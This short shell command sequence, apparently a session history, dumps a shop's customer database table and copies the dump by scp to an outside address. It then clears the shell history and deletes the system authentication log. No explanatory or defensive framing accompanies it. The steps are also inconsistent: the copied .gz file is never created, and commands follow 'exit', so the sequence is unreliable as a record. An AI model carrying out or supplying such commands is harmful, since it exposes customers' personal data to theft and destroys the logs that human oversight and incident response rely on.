cd /srv/data
mysqldump -u app shop customers > /tmp/c.sql
for f in *.csv; do gzip $f; done
scp /tmp/c.sql.gz hanako@203.0.113.9:
history -c
exit
ls
sudo rm -f /var/log/auth.log
